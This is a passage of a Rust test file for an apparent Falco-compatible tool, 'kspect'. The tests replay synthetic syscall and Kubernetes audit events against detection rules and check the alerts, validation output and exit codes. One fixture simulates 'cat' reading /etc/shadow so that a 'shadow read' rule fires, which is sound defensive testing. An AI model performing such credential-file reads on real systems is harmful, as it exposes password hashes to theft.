            &[("fd.name", json!("/var/lib/rpm/created-by-event-generator"))],
        ),
        _ => None,
    }
}

fn write_events(dir: &Path, name: &str, attack: &[Json], benign: &[Json]) -> PathBuf {
    let mut text = String::new();
    for (t, evs) in [(ATTACK_T, attack), (BENIGN_T, benign)] {
        for (i, e) in evs.iter().enumerate() {
            let mut e = e.clone();
            e["time"] = json!(t + i as i64);
            // The look-alike is another process (the tree would otherwise attribute it
            // to the attack's container and parents).
            if t == BENIGN_T {
                for ptr in ["/proc/pid", "/proc/ppid", "/parents/0/pid"] {
                    if let Some(v) = e.pointer_mut(ptr) {
                        if *v == json!(4242) || *v == json!(4300) {
                            *v = json!(v.as_i64().unwrap_or(0) + 1000);
                        }
                    }
                }
            }
            text.push_str(&e.to_string());
            text.push('\n');
        }
    }
    common::write(dir, name, &text)
}

fn alerts(stdout: &str) -> Vec<Json> {
    stdout
        .lines()
        .filter(|l| !l.trim().is_empty())
        .filter_map(|l| serde_json::from_str(l).ok())
        .collect()
}

fn check_syscall_action(root: &Path, dir: &Path, row: &Json) -> Result<(), String> {
    let action = row["action"].as_str().unwrap_or_default();
    let rule = row["rule"].as_str().unwrap_or_default();
    let file = row["rules_file"].as_str().unwrap_or_default();
    let Some(case) = action_events(action) else {
        return Err(format!("{action}: no events written for this action"));
    };
    let events = write_events(dir, &format!("{action}.jsonl"), &case.attack, &case.benign);
    let mut rules = vec!["rules/falco_rules.yaml".to_string()];
    if file != "rules/falco_rules.yaml" {
        rules.push(file.to_string());
    }
    let mut args: Vec<String> = vec!["runtime".into(), "replay".into()];
    for r in &rules {
        args.push("--rules".into());
        args.push(root.join(r).display().to_string());
    }
    args.extend([
        "--events".into(),
        events.display().to_string(),
        "-o".into(),
        "json".into(),
        "--rule".into(),
        rule.into(),
        "--hostname".into(),
        "test-host".into(),
    ]);
    let argv: Vec<&str> = args.iter().map(String::as_str).collect();
    let out = common::run(&argv, dir);
    if out.code != 0 {
        return Err(format!("{action}: exit {} stderr {}", out.code, out.stderr));
    }
    let got = alerts(&out.stdout);
    if got.len() != 1 {
        return Err(format!(
            "{action}: expected one alert of {rule:?}, got {}: {}",
            got.len(),
            out.stdout
        ));
    }
    let a = &got[0];
    if a["rule"] != rule || a["source"] != "syscall" || a["hostname"] != "test-host" {
        return Err(format!("{action}: wrong alert {a}"));
    }
    // The alert is the attack's (time 1000 s), not the benign look-alike's.
    if a["output_fields"]["evt.time"]
        .as_i64()
        .is_none_or(|t| t >= BENIGN_T)
    {
        return Err(format!("{action}: the benign look-alike fired: {a}"));
    }
    for (f, v) in &case.fields {
        let shown = &a["output_fields"][*f];
        let text_ok = a["output"]
            .as_str()
            .is_some_and(|o| o.contains(&v.as_str().map_or(v.to_string(), str::to_string)));
        if shown != v && !(shown.is_null() && text_ok) {
            return Err(format!(
                "{action}: output field {f} = {shown}, expected {v} (alert {a})"
            ));
        }
    }
    for k in [
        "time",
        "rule",
        "priority",
        "output",
        "output_fields",
        "tags",
        "source",
        "hostname",
    ] {
        if a.get(k).is_none() {
            return Err(format!("{action}: alert lacks {k}"));
        }
    }
    Ok(())
}

// ---------------------------------------------------------------------------------
// Audit events as the API server writes them when a manifest is applied.

fn yaml_docs(text: &str) -> Vec<Json> {
    let mut out = Vec::new();
    let mut line = 0u32;
    for doc in text.split("\n---") {
        if let Ok(Some(d)) = kspect_core::yaml::parse_document(doc, line) {
            out.push(d.value);
        }
        line += doc.lines().count() as u32;
    }
    out
}

fn audit_event(id: usize, user: &str, obj: &Json, ns: &str) -> Json {
    let api = obj["apiVersion"].as_str().unwrap_or("v1");
    let (group, version) = api.split_once('/').unwrap_or(("", api));
    let kind = obj["kind"].as_str().unwrap_or_default();
    let resource = format!("{}s", kind.to_ascii_lowercase());
    let cluster = matches!(kind, "ClusterRole" | "ClusterRoleBinding" | "Namespace");
    let name = obj["metadata"]["name"].as_str().unwrap_or_default();
    let prefix = if group.is_empty() {
        "/api/v1".to_string()
    } else {
        format!("/apis/{group}/{version}")
    };
    let uri = if cluster {
        format!("{prefix}/{resource}")
    } else {
        format!("{prefix}/namespaces/{ns}/{resource}")
    };
    let mut object_ref = json!({"resource": resource, "apiGroup": group, "apiVersion": version});
    if !name.is_empty() {
        object_ref["name"] = json!(name);
    }
    if !cluster {
        object_ref["namespace"] = json!(ns);
    }
    json!({"kind": "Event", "apiVersion": "audit.k8s.io/v1", "level": "RequestResponse", "auditID": format!("eg-{id}"),
        "stage": "ResponseComplete", "requestURI": uri, "verb": "create",
        "user": {"username": user, "groups": ["system:masters", "system:authenticated"]},
        "sourceIPs": ["172.18.0.1"], "userAgent": "kubectl/v1.30.0",
        "objectRef": object_ref, "responseStatus": {"metadata": {}, "code": 201},
        "requestObject": obj, "responseObject": obj,
        "requestReceivedTimestamp": "2026-06-01T12:00:00.000000Z", "stageTimestamp": "2026-06-01T12:00:00.010000Z"})
}

/// `kubectl apply -f manifest`: the create, and for workloads the pod the controller
/// creates from the template.
fn manifest_events(text: &str) -> Vec<Json> {
    let mut out = Vec::new();
    for obj in yaml_docs(text) {
        let ns = obj["metadata"]["namespace"]
            .as_str()
            .unwrap_or("default")
            .to_string();
        out.push(audit_event(out.len(), "kubernetes-admin", &obj, &ns));
        if let Some(tmpl) = obj.pointer("/spec/template") {
            let name = obj["metadata"]["name"].as_str().unwrap_or("x");
            let pod = json!({"apiVersion": "v1", "kind": "Pod",
                "metadata": {"generateName": format!("{name}-"), "namespace": ns, "labels": tmpl["metadata"]["labels"].clone()},
                "spec": tmpl["spec"].clone()});
            let mut ev = audit_event(
                out.len(),
                "system:serviceaccount:kube-system:replicaset-controller",
                &pod,
                &ns,
            );
            ev["objectRef"].as_object_mut().map(|o| o.remove("name"));
            out.push(ev);
        }
    }
    out
}

fn check_k8saudit_action(root: &Path, dir: &Path, row: &Json) -> Result<(), String> {
    let action = row["action"].as_str().unwrap_or_default();
    let rule = row["rule"].as_str().unwrap_or_default();
    let manifest = std::fs::read_to_string(root.join(row["manifest"].as_str().unwrap_or_default()))
        .map_err(|e| format!("{action}: {e}"))?;
    let events = manifest_events(&manifest);
    let text: String = events.iter().map(|e| format!("{e}\n")).collect();
    let path = common::write(dir, &format!("{action}.jsonl"), &text);
    let rules = root.join(row["rules_file"].as_str().unwrap_or_default());
    let mut args = vec![
        "runtime".to_string(),
        "replay".into(),
        "--rules".into(),
        rules.display().to_string(),
    ];
    if rule == "Create Disallowed Pod" {
        // The shipped `allowed_k8s_containers` macro is always true, which turns the rule
        // off until a user lists the images they allow (as its description says); do
        // that here, the way a deployment would, in a file loaded after the rules.
        let allow = common::write(
            dir,
            "allowed-images.yaml",
            "- macro: allowed_k8s_containers\n  condition: (ka.req.pod.containers.image.repository in (nginx))\n  override:\n    condition: replace\n",
        );
        args.extend(["--rules".into(), allow.display().to_string()]);
    }
    args.extend([
        "--events".into(),
        path.display().to_string(),
        "-o".into(),
        "json".into(),
        "--all-matches".into(),
    ]);
    let argv: Vec<&str> = args.iter().map(String::as_str).collect();
    let out = common::run(&argv, dir);
    if out.code != 0 {
        return Err(format!("{action}: exit {} {}", out.code, out.stderr));
    }
    let got = alerts(&out.stdout);
    let n = got.iter().filter(|a| a["rule"] == rule).count();
    if n == 0 || got.iter().any(|a| a["source"] != "k8s_audit") {
        let names: Vec<_> = got.iter().map(|a| a["rule"].clone()).collect();
        return Err(format!("{action}: {rule:?} did not fire; alerts {names:?}"));
    }
    Ok(())
}

#[test]
fn event_generator_actions_fire_their_rules() {
    let Some(root) = corpus() else { return };
    let rows = jsonl(&root.join("cases/event_generator_actions.jsonl"));
    let tmp = tempfile::tempdir().unwrap();
    let mut failures = Vec::new();
    for row in &rows {
        let action = row["action"].as_str().unwrap_or_default();
        let r = if action.starts_with("syscall.") {
            check_syscall_action(&root, tmp.path(), row)
        } else {
            check_k8saudit_action(&root, tmp.path(), row)
        };
        if let Err(e) = r {
            failures.push(e);
        }
    }
    report("event_generator_actions.jsonl", rows.len(), &failures);
}

// ---------------------------------------------------------------------------------
// k8saudit_expectations.jsonl through the CLI.

#[test]
fn k8saudit_expectations_through_replay() {
    let Some(root) = corpus() else { return };
    let rows = jsonl(&root.join("cases/k8saudit_expectations.jsonl"));
    let tmp = tempfile::tempdir().unwrap();
    let mut failures = Vec::new();
    for row in &rows {
        let name = row["test"].as_str().unwrap_or_default();
        let mut args: Vec<String> = vec!["runtime".into(), "replay".into()];
        for f in row["rules_files"].as_array().into_iter().flatten() {
            args.push("--rules".into());
            args.push(
                root.join(f.as_str().unwrap_or_default())
                    .display()
                    .to_string(),
            );
        }
        args.extend([
            "--events".into(),
            root.join(row["events"].as_str().unwrap_or_default())
                .display()
                .to_string(),
            "-o".into(),
            "json".into(),
        ]);
        let argv: Vec<&str> = args.iter().map(String::as_str).collect();
        let out = common::run(&argv, tmp.path());
        let expect = &row["expect"];
        let got = alerts(&out.stdout);
        let mut counts: BTreeMap<String, u64> = BTreeMap::new();
        for a in &got {
            *counts
                .entry(a["rule"].as_str().unwrap_or_default().to_string())
                .or_default() += 1;
        }
        let mut errs = Vec::new();
        if Some(i64::from(out.code)) != expect["exit_code"].as_i64() {
            errs.push(format!("exit {} (stderr {})", out.code, out.stderr));
        }
        if let Some(any) = expect["any_detection"].as_bool() {
            if any == got.is_empty() {
                errs.push(format!("any_detection {any}, got {counts:?}"));
            }
        }
        for (rule, n) in expect["rule_counts"].as_object().into_iter().flatten() {
            let g = counts.get(rule).copied().unwrap_or(0);
            if Some(g) != n.as_u64() {
                errs.push(format!("{rule:?}: {g}, expected {n}"));
            }
        }
        let prio = |p: &str| kspect_rules_priority(p);
        for p in expect["priorities_present"]
            .as_array()
            .into_iter()
            .flatten()
            .filter_map(Json::as_str)
        {
            if !got.iter().any(|a| a["priority"] == prio(p)) {
                errs.push(format!("no {p} alert"));
            }
        }
        for p in expect["priorities_absent"]
            .as_array()
            .into_iter()
            .flatten()
            .filter_map(Json::as_str)
        {
            if got.iter().any(|a| a["priority"] == prio(p)) {
                errs.push(format!("unexpected {p} alert"));
            }
        }
        if let Some(re) = expect["stderr_regex"].as_str() {
            // The patterns are plain phrases.
            if !out.stderr.contains(re) {
                errs.push(format!("stderr {:?} lacks {re:?}", out.stderr));
            }
        }
        if !errs.is_empty() {
            failures.push(format!("{name}: {}", errs.join("; ")));
        }
    }
    report("k8saudit_expectations.jsonl (CLI)", rows.len(), &failures);
}

/// Falco's JSON spelling of a priority name as the expectations write it.
fn kspect_rules_priority(p: &str) -> &'static str {
    match p.to_ascii_lowercase().as_str() {
        "emergency" => "Emergency",
        "alert" => "Alert",
        "critical" => "Critical",
        "error" => "Error",
        "warning" => "Warning",
        "notice" => "Notice",
        "info" | "informational" => "Informational",
        _ => "Debug",
    }
}

// ---------------------------------------------------------------------------------
// validate and replay behaviour.

#[test]
fn validate_verdicts_and_exit_codes() {
    let tmp = tempfile::tempdir().unwrap();
    let d = tmp.path();
    let good = common::write(
        d,
        "good.yaml",
        "- macro: m\n  condition: evt.type = open\n- rule: r\n  desc: d\n  condition: m and proc.name = cat\n  output: '%proc.name'\n  priority: WARNING\n",
    );
    let warn = common::write(
        d,
        "warn.yaml",
        "- macro: unused\n  condition: evt.type = open\n",
    );
    let bad = common::write(
        d,
        "bad.yaml",
        "- rule: broken\n  desc: d\n  condition: proc.nope = 1\n  output: o\n  priority: INFO\n",
    );
    let r = common::run(&["runtime", "validate", good.to_str().unwrap()], d);
    assert_eq!(r.code, 0, "{}", r.stderr);
    assert_eq!(r.stdout.trim(), format!("{}: Ok", good.display()));
    let r = common::run(
        &[
            "runtime",
            "validate",
            good.to_str().unwrap(),
            warn.to_str().unwrap(),
        ],
        d,
    );
    assert_eq!(r.code, 0);
    assert!(
        r.stdout.contains("warn.yaml: Ok, with warnings"),
        "{}",
        r.stdout
    );
    assert!(
        r.stdout.contains("warning: ")
            && r.stdout.contains("warn.yaml:1:")
            && r.stdout.contains("Macro not referred to"),
        "{}",
        r.stdout
    );
    let r = common::run(
        &[
            "runtime",
            "validate",
            bad.to_str().unwrap(),
            good.to_str().unwrap(),
        ],
        d,
    );
    assert_eq!(r.code, 1);
    assert!(r.stdout.contains("bad.yaml: Invalid"), "{}", r.stdout);
    assert!(
        r.stdout.contains("error: ")
            && r.stdout.contains("bad.yaml:1:")
            && r.stdout.contains("nonexistent field proc.nope"),
        "{}",
        r.stdout
    );
    assert!(
        !r.stdout.contains("good.yaml"),
        "loading stops at the first invalid file: {}",
        r.stdout
    );
    let r = common::run(
        &[
            "runtime",
            "validate",
            d.join("missing.yaml").to_str().unwrap(),
        ],
        d,
    );
    assert_eq!(r.code, 1);
    assert!(r.stdout.contains("Could not read file"), "{}", r.stdout);
    let r = common::run(&["runtime", "validate"], d);
    assert_eq!(r.code, 2);
}

#[test]
fn validate_loads_the_real_rule_files_in_order() {
    let Some(root) = corpus() else { return };
    let sets: [&[&str]; 4] = [
        &["rules/falco_rules.yaml"],
        &[
            "rules/falco_rules.yaml",
            "rules/falco-incubating_rules.yaml",
        ],
        &["rules/falco_rules.yaml", "rules/falco-sandbox_rules.yaml"],
        &[
            "rules/k8s_audit_rules.yaml",
            "rules/k8s_audit_rules_gke.yaml",
        ],
    ];
    let mut failures = Vec::new();
    for set in sets {
        let mut args = vec!["runtime".to_string(), "validate".to_string()];
        args.extend(set.iter().map(|f| root.join(f).display().to_string()));
        let argv: Vec<&str> = args.iter().map(String::as_str).collect();
        let r = common::run(&argv, &root);
        let oks = r
            .stdout
            .lines()
            .filter(|l| l.ends_with(": Ok") || l.ends_with(": Ok, with warnings"))
            .count();
        if r.code != 0 || oks != set.len() {
            failures.push(format!("{set:?}: exit {} {}", r.code, r.stdout));
        }
    }
    report("runtime validate on rules/", sets.len(), &failures);
}

#[test]
fn replay_text_shape_selection_and_bad_lines() {
    let tmp = tempfile::tempdir().unwrap();
    let d = tmp.path();
    let rules = common::write(
        d,
        "r.yaml",
        "- rule: shadow read\n  desc: d\n  condition: evt.type = openat and fd.name = /etc/shadow\n  output: '%proc.cmdline read %fd.name in %container.name (pod %k8s.pod.name)'\n  priority: WARNING\n  tags: [filesystem]\n- rule: any exec\n  desc: d\n  condition: evt.type = execve\n  output: exec %proc.name\n  priority: DEBUG\n  tags: [process]\n",
    );
    let events = common::write(
        d,
        "e.jsonl",
        concat!(
            "{\"type\":\"execve\",\"time\":\"2026-06-01T12:00:00Z\",\"proc\":{\"pid\":7,\"exepath\":\"/bin/cat\",\"args\":[\"/etc/shadow\"]},\"container\":{\"id\":\"0123456789ab\",\"name\":\"web\",\"labels\":{\"io.kubernetes.pod.name\":\"web-0\"}}}\n",
            "this is not json\n",
            "{\"type\":\"openat\",\"time\":\"2026-06-01T12:00:01Z\",\"tid\":7,\"args\":{\"flags\":\"O_RDONLY\"},\"fd\":{\"num\":3,\"type\":\"file\",\"name\":\"/etc/shadow\"}}\n",
        ),
    );
    let (r, e) = (rules.to_str().unwrap(), events.to_str().unwrap());
    let out = common::run(&["runtime", "replay", "--rules", r, "--events", e], d);
    assert_eq!(out.code, 0, "{}", out.stderr);
    let lines: Vec<&str> = out.stdout.lines().collect();
    assert_eq!(
        lines,
        [
            "2026-06-01T12:00:00.000000000Z: Debug exec cat",
            "2026-06-01T12:00:01.000000000Z: Warning cat /etc/shadow read /etc/shadow in web (pod web-0)",
        ]
    );
    assert!(out.stderr.contains("e.jsonl:2:"), "{}", out.stderr);
    let out = common::run(
        &[
            "runtime",
            "replay",
            "--rules",
            r,
            "--events",
            e,
            "--min-priority",
            "warning",
            "-o",
            "json",
        ],
        d,
    );
    let a = alerts(&out.stdout);
    assert_eq!(a.len(), 1);
    assert_eq!(a[0]["rule"], "shadow read");
    assert_eq!(a[0]["tags"], json!(["filesystem"]));
    assert_eq!(a[0]["output_fields"]["fd.name"], "/etc/shadow");
    let out = common::run(
        &[
            "runtime", "replay", "--rules", r, "--events", e, "--tag", "process",
        ],
        d,
    );
    assert_eq!(out.stdout.lines().count(), 1);
    let out = common::run(
        &[
            "runtime",
            "replay",
            "--rules",
            r,
            "--events",
            e,
            "--disable-rule",
            "exec",
        ],
        d,
    );
    assert_eq!(out.stdout.lines().count(), 1);
    assert!(out.stdout.contains("Warning"));
    let out = common::run(
        &[
            "runtime", "replay", "--rules", r, "--events", e, "--rule", "nope",
        ],
        d,
    );
    assert_eq!(out.code, 2);
    let out = common::run(
        &[
            "runtime",
            "replay",
            "--rules",
            r,
            "--events",
            d.join("missing.jsonl").to_str().unwrap(),
            "--source",
            "syscall",
        ],
        d,
    );
    assert_eq!(out.code, 2);
}

#[test]
fn audit_commands() {
    let Some(root) = corpus() else { return };
    let audit = root.join("../audit");
    let tmp = tempfile::tempdir().unwrap();
    let out = common::run(
        &[
            "audit",
            "analyze",
            audit.join("events/falco").to_str().unwrap(),
            "--rules",
            root.join("rules/k8s_audit_rules.yaml").to_str().unwrap(),
            "--format",
            "json",
        ],
        tmp.path(),
    );
    assert_eq!(out.code, 0, "{}", out.stderr);
    let doc: Json = serde_json::from_str(&out.stdout).unwrap();
    assert_eq!(doc["malformed"].as_array().map(Vec::len), Some(1));
    assert!(
        doc["malformed"][0]["file"]
            .as_str()
            .unwrap()
            .ends_with("fal_01_003.json")
    );
    assert!(
        doc["falco_alerts"]
            .as_array()
            .is_some_and(|a| a.iter().any(|x| x["rule"] == "Attach/Exec Pod"))
    );
    assert!(
        doc["detections"]
            .as_array()
            .is_some_and(|a| a.iter().any(|x| x["id"] == "KSA006"))
    );
    let out = common::run(
        &[
            "audit",
            "analyze",
            audit.join("events/audit2rbac/demo.log").to_str().unwrap(),
        ],
        tmp.path(),
    );
    assert_eq!(out.code, 0);
    for part in [
        "Detections (",
        "Who did what:",
        "Denied (11):",
        "Timeline of sensitive actions:",
    ] {
        assert!(out.stdout.contains(part), "{part}: {}", out.stdout);
    }
    let out = common::run(
        &[
            "audit",
            "analyze",
            audit.join("events/falco").to_str().unwrap(),
            "--fail-on",
            "critical",
        ],
        tmp.path(),
    );
    assert_eq!(out.code, 1, "cluster-admin binding is critical");
    let p = audit.join("policies/kics-positive2-secrets-at-requestresponse.yaml");
    let out = common::run(&["audit", "policy", p.to_str().unwrap()], tmp.path());
    assert_eq!(out.code, 1);
    assert!(out.stdout.contains("kics-positive2-secrets-at-requestresponse.yaml:5: [high] KAP001 secrets are logged at RequestResponse"), "{}", out.stdout);
}

#[test]
fn plugin_requirements_are_checked_after_loading() {
    let tmp = tempfile::tempdir().unwrap();
    let d = tmp.path();
    let rules = "- required_plugin_versions:\n  - name: json\n    version: 0.7.0\n  - name: k8saudit\n    version: 1.0.0\n    alternatives:\n      - name: k8saudit-eks\n        version: 0.12.0\n\n- rule: r\n  desc: d\n  condition: ka.verb = get\n  output: o %ka.user.name\n  priority: INFO\n  source: k8s_audit\n";
    let f = common::write(d, "needs-newer.yaml", rules);
    let f = f.to_str().unwrap();
    let out = common::run(&["runtime", "validate", f], d);
    assert_eq!(out.code, 1, "{}", out.stdout);
    // The first alternative kspect stands in for decides, as in Falco.
    assert!(
        out.stdout.contains(&format!("{f}:4:")) && out.stdout.contains(
            "Plugin 'k8saudit' version '0.18.0' is not compatible with required plugin version '1.0.0'"
        ),
        "{}",
        out.stdout
    );
    let events = common::write(
        d,
        "ev.json",
        "{\"kind\":\"Event\",\"auditID\":\"1\",\"verb\":\"get\"}\n",
    );
    let out = common::run(
        &[
            "runtime",
            "replay",
            "--rules",
            f,
            "--events",
            events.to_str().unwrap(),
        ],
        d,
    );
    assert_eq!(out.code, 2, "{}", out.stderr);
    assert!(out.stderr.contains("is not compatible"), "{}", out.stderr);

    let missing = common::write(
        d,
        "needs-cloudtrail.yaml",
        "- required_plugin_versions:\n  - name: cloudtrail\n    version: 0.1.0\n",
    );
    let out = common::run(&["runtime", "validate", missing.to_str().unwrap()], d);
    assert_eq!(out.code, 1);
    assert!(
        out.stdout
            .contains("Plugin requirement not satisfied, must load one of: cloudtrail (>= 0.1.0)"),
        "{}",
        out.stdout
    );
    let ok = common::write(
        d,
        "ok.yaml",
        "- required_plugin_versions:\n  - name: k8saudit-gke\n    version: 0.9.0\n  - name: container\n    version: 0.4.0\n",
    );
    assert_eq!(
        common::run(&["runtime", "validate", ok.to_str().unwrap()], d).code,
        0
    );
}
